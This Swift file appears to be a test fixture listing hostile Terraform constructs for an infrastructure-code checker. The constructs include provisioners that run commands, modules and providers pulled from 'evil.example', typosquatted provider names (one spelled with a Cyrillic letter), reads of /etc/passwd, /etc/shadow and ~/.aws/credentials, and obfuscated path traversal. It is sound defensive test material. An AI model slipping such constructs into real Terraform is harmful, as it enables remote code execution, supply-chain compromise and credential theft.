import Effects

/// Constructs that run, ask, fetch or read more than resources, each as a whole file.
package enum HostileConstructs {
  private static let resource = "resource \"terraform_data\" \"a\" {\n  X\n}\n"

  package static let all: [(text: String, kind: Effect.Kind)] = [
    (resource.replacing("X", with: "provisioner \"local-exec\" { command = \"id\" }"), .provisioner),
    (resource.replacing("X", with: "provisioner \"remote-exec\" { inline = [\"id\"] }"), .provisioner),
    (
      resource.replacing("X", with: "provisioner \"file\" {\n source = \"a\"\n destination = \"b\"\n }"),
      .provisioner
    ),
    (resource.replacing("X", with: "provisioner \"chef\" {}"), .provisioner),
    (resource.replacing("X", with: "connection { host = \"x\" }"), .provisioner),
    (
      resource.replacing(
        "X", with: "provisioner /* x */ \"local-exec\" {\n when = destroy\n command = \"id\" }"), .provisioner
    ),
    (
      "removed {\n  from = terraform_data.a\n  provisioner \"local-exec\" { command = \"id\" }\n}\n",
      .provisioner
    ),
    ("data \"external\" \"a\" { program = [\"id\"] }\n", .program),
    ("check \"c\" {\n  data \"external\" \"a\" { program = [\"id\"] }\n}\n", .program),
    ("data \"http\" \"a\" { url = \"http://x\" }\n", .address),
    ("check \"c\" {\n  data \"http\" \"a\" { url = \"http://x\" }\n}\n", .address),
    ("data \"dns_txt_record_set\" \"a\" { host = \"x\" }\n", .address),
    ("data \"terraform_remote_state\" \"a\" { backend = \"local\" }\n", .remoteState),
    ("module \"m\" { source = \"git::https://evil.example/m\" }\n", .remoteModule),
    ("module \"m\" { source = \"https://evil.example/m.zip\" }\n", .remoteModule),
    ("module \"m\" { source = \"s3::https://s3.amazonaws.com/b/m.zip\" }\n", .remoteModule),
    ("module \"m\" { source = \"evil/vpc/aws\" }\n", .remoteModule),
    ("module \"m\" { source = \"evil.example/evil/vpc/aws\" }\n", .remoteModule),
    ("module \"m\" { source = \"github.com/evil/m\" }\n", .remoteModule),
    ("module \"m\" { source = \"hashicorp/../evil\" }\n", .remoteModule),
    ("module \"m\" { source = var.where }\n", .remoteModule),
    ("module \"m\" { source = \"../../m\" }\n", .file),
    ("module \"m\" { source = \"/srv/m\" }\n", .remoteModule),
    ("module \"m\" { source = \"./a/../../m\" }\n", .file),
    ("terraform {\n  backend \"http\" { address = \"http://x\" }\n}\n", .backend),
    ("terraform {\n  backend \"s3\" {}\n}\n", .backend),
    ("terraform {\n  cloud { organization = \"x\" }\n}\n", .backend),
    (
      "terraform {\n  required_providers {\n    e = { source = \"evil.example/attacker/evil\" }\n  }\n}\n",
      .provider
    ),
    ("terraform {\n  required_providers {\n    aws = { source = \"hash1corp/aws\" }\n  }\n}\n", .provider),
    ("terraform {\n  required_providers {\n    aws = { source = \"hashicоrp/aws\" }\n  }\n}\n", .provider),
    (
      "terraform {\n  required_providers {\n    aws = { source = \"evil.example/hashicorp/aws\" }\n  }\n}\n",
      .provider
    ),
    (
      "terraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws/../../evil\" }\n  }\n}\n",
      .provider
    ),
    ("terraform {\n  required_providers {\n    aws = local.x\n  }\n}\n", .provider),
    (
      "terraform {\n  encryption {\n    key_provider \"external\" \"x\" { command = [\"id\"] }\n  }\n}\n",
      .program
    ),
    ("provider \"aws\" {\n  endpoints { s3 = \"http://x\" }\n}\n", .providerSetting),
    ("provider \"aws\" { access_key = \"x\" }\n", .providerSetting),
    ("provider \"aws\" {\n  assume_role { role_arn = \"x\" }\n}\n", .providerSetting),
    ("provider \"google\" { compute_custom_endpoint = \"http://x\" }\n", .providerSetting),
    ("provider \"kubernetes\" { host = \"https://x\" }\n", .providerSetting),
    ("provider \"kubernetes\" { host = \"https://x/${aws_eks_cluster.a.id}\" }\n", .providerSetting),
    ("provider \"kubernetes\" { host = var.host }\n", .providerSetting),
    ("provider \"kubernetes\" {\n  exec {\n    command = \"id\"\n  }\n}\n", .program),
    ("provider \"helm\" {\n  kubernetes {\n    exec {\n      command = \"id\"\n    }\n  }\n}\n", .program),
    ("resource \"helm_release\" \"a\" {\n  postrender {\n    binary_path = \"/bin/id\"\n  }\n}\n", .program),
    ("resource \"helm_release\" \"a\" { repository = \"http://x\" }\n", .remoteModule),
    ("resource \"local_file\" \"a\" { filename = \"/root/.bashrc\" }\n", .file),
    ("locals { a = file(\"/etc/passwd\") }\n", .file), ("locals { a = file(\"../x\") }\n", .file),
    ("locals { a = file(\"~/.aws/credentials\") }\n", .file),
    ("locals { a = file(pathexpand(\"~/x\")) }\n", .file),
    ("locals { a = templatefile(\"${path.module}/../../x\", {}) }\n", .file),
    ("locals { a = filebase64(\"${path.cwd}/x\") }\n", .file),
    ("locals { a = fileset(\"/\", \"**\") }\n", .file),
    ("locals {\n  d = \"..\"\n  a = file(\"${path.module}/${local.d}/x\")\n}\n", .file),
    ("locals {\n  d = base64decode(\"Li4=\")\n  a = file(\"${path.module}/${local.d}/x\")\n}\n", .file),
    ("locals { a = file(var.x) }\n", .file), ("locals { a = try(core::file(\"/etc/passwd\"), 1) }\n", .file),
    (
      "output \"o\" {\n  value = 1\n  precondition {\n    condition = true\n    error_message = file(\"/etc/passwd\")\n  }\n}\n",
      .file
    ),
    ("resource \"aws_s3_object\" \"a\" { source = \"/etc/shadow\" }\n", .file),
    ("resource \"aws_lambda_function\" \"a\" { filename = \"../x.zip\" }\n", .file),
    ("data \"archive_file\" \"a\" { source_dir = \"/root\" }\n", .file),
    ("resource \"x\" {\n", .unread), ("locals { a = \n", .unread), ("\u{FEFF}\u{0}resource\n", .unread),
  ]

  /// The texts of those that parse: what does not parse is refused for that.
  package static let readable = all.filter { $0.kind != .unread }.map(\.text)
}
